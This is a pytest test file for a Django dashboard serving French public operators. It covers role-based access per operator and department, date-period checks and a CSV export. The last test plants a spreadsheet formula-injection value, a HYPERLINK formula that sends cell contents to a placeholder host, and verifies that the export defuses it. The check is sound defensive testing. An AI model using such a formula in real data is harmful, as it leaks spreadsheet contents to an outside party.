import csv
import io

import pytest
from django.urls import reverse

from guichet.comptes.models import Role
from guichet.journal.models import EntreeJournal
from tests.comptes.conftest import connecter
from tests.comptes.factories import HabilitationFactory, UtilisateurFactory

URL = reverse("qualite:tableau")
EXPORT = reverse("qualite:export")
JANVIER = {"du": "2026-01-01", "au": "2026-01-31"}


def _personne(**habilitation):
    user = UtilisateurFactory()
    if habilitation:
        HabilitationFactory(utilisateur=user, **habilitation)
    return user


def _get(client, user, url=URL, **params):
    connecter(client, user)
    return client.get(url, {**JANVIER, **params})


@pytest.fixture
def referent_caf_01(jeu):
    return _personne(role=Role.REFERENT, operateur=jeu.caf, departement=jeu.dep01)


def test_anonyme_renvoye_a_la_connexion(client, db):
    reponse = client.get(URL)
    assert reponse.status_code == 302 and reverse("comptes:connexion") in reponse["Location"]


def test_agent_refuse(client, jeu):
    conseiller = _personne(role=Role.CONSEILLER, structure=jeu.s01)
    assert _get(client, conseiller).status_code == 403
    assert _get(client, conseiller, EXPORT).status_code == 403


def test_sans_role_refuse(client, db):
    assert _get(client, UtilisateurFactory()).status_code == 403


def test_referent_voit_son_operateur_dans_son_departement(client, jeu, referent_caf_01):
    reponse = _get(client, referent_caf_01)
    assert reponse.status_code == 200
    lignes = reponse.context["tableau"].lignes
    assert [(m.operateur.code, m.departement.code) for m in lignes] == [("caf", "01")]
    page = reponse.content.decode()
    assert "Les Allocations familiales" in page and "Assurance Maladie" not in page
    assert "Période : du 1 janvier 2026 au 31 janvier 2026" in page
    assert "sur 3 réponses" in page  # l'effectif derrière le délai médian


def test_referent_d_un_operateur_ne_voit_pas_un_autre(client, jeu, referent_caf_01):
    assert _get(client, referent_caf_01, operateur=jeu.cpam.pk).status_code == 403
    assert _get(client, referent_caf_01, EXPORT, operateur=jeu.cpam.pk).status_code == 403


def test_referent_ne_voit_pas_un_autre_departement(client, jeu, referent_caf_01):
    assert _get(client, referent_caf_01, departement=jeu.dep02.pk).status_code == 403


def test_referent_cpam_ne_voit_pas_la_caf(client, jeu):
    referent_cpam = _personne(role=Role.REFERENT, operateur=jeu.cpam, departement=jeu.dep01)
    reponse = _get(client, referent_cpam)
    assert [m.operateur.code for m in reponse.context["tableau"].lignes] == ["cpam"]
    assert _get(client, referent_cpam, operateur=jeu.caf.pk).status_code == 403


def test_responsable_operateur(client, jeu):
    responsable = _personne(role=Role.RESPONSABLE_OPERATEUR, operateur=jeu.caf, departement=jeu.dep02)
    reponse = _get(client, responsable)
    assert [(m.operateur.code, m.departement.code) for m in reponse.context["tableau"].lignes] == [("caf", "02")]


def test_prefecture_voit_tous_les_operateurs_de_son_departement(client, jeu):
    prefecture = _personne(role=Role.PREFECTURE, departement=jeu.dep01)
    reponse = _get(client, prefecture)
    assert {(m.operateur.code, m.departement.code) for m in reponse.context["tableau"].lignes} == {
        ("caf", "01"),
        ("cpam", "01"),
    }
    assert _get(client, prefecture, operateur=jeu.cpam.pk).status_code == 200


def test_prefecture_d_un_autre_departement_refusee(client, jeu):
    prefecture_02 = _personne(role=Role.PREFECTURE, departement=jeu.dep02)
    assert _get(client, prefecture_02, departement=jeu.dep01.pk).status_code == 403
    assert _get(client, prefecture_02, EXPORT, departement=jeu.dep01.pk).status_code == 403
    lignes = _get(client, prefecture_02).context["tableau"].lignes
    assert [(m.operateur.code, m.departement.code) for m in lignes] == [("caf", "02")]


def test_national_voit_tout(client, jeu):
    national = _personne(role=Role.NATIONAL)
    reponse = _get(client, national)
    assert len(reponse.context["tableau"].lignes) == 3
    assert reponse.context["tableau"].total.recues == 8


def test_periode_invalide(client, jeu, referent_caf_01):
    reponse = _get(client, referent_caf_01, du="2026-02-01", au="2026-01-01")
    assert reponse.status_code == 200 and reponse.context["tableau"] is None
    assert "La date de début doit précéder la date de fin." in reponse.content.decode()


def test_periode_par_defaut(client, jeu, referent_caf_01):
    connecter(client, referent_caf_01)
    reponse = client.get(URL)
    tableau = reponse.context["tableau"]
    assert reponse.status_code == 200 and (tableau.fin - tableau.debut).days == 90


def test_export_csv(client, jeu):
    national = _personne(role=Role.NATIONAL)
    reponse = _get(client, national, EXPORT)
    assert reponse.status_code == 200 and reponse["Content-Type"].startswith("text/csv")
    assert 'filename="qualite-back-office-20260101-20260131.csv"' in reponse["Content-Disposition"]
    lignes = list(csv.reader(io.StringIO(reponse.content.decode("utf-8-sig")), delimiter=";"))
    assert lignes[0][0] == "Département (code)" and len(lignes) == 1 + 3 + 1
    caf_01 = next(ligne for ligne in lignes if ligne[0] == "01" and ligne[2] == "Les Allocations familiales")
    # Vu d'aujourd'hui, l'échéance de la demande du 30 janvier est passée : 2 sur 5 à temps.
    assert caf_01[5] == "6" and caf_01[10] == "24,0" and caf_01[13:16] == ["2", "40,0", "0"]
    entree = EntreeJournal.objects.get(action="export")
    assert entree.acteur == national and entree.details["lignes"] == 4


def test_page_accessible_sans_donnee(client, db):
    """Page vide (aucune demande) : pas de tableau mais la période et le formulaire."""
    national = _personne(role=Role.NATIONAL)
    reponse = _get(client, national)
    assert reponse.status_code == 200
    assert "Aucune demande reçue" in reponse.content.decode()


def test_export_csv_un_nom_en_formule_reste_du_texte(client, jeu):
    piege = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'
    jeu.caf.nom = piege
    jeu.caf.save()
    reponse = _get(client, _personne(role=Role.NATIONAL), EXPORT)
    lignes = list(csv.reader(io.StringIO(reponse.content.decode("utf-8-sig")), delimiter=";"))
    operateurs = {ligne[2] for ligne in lignes[1:]}
    assert "'" + piege in operateurs and piege not in operateurs
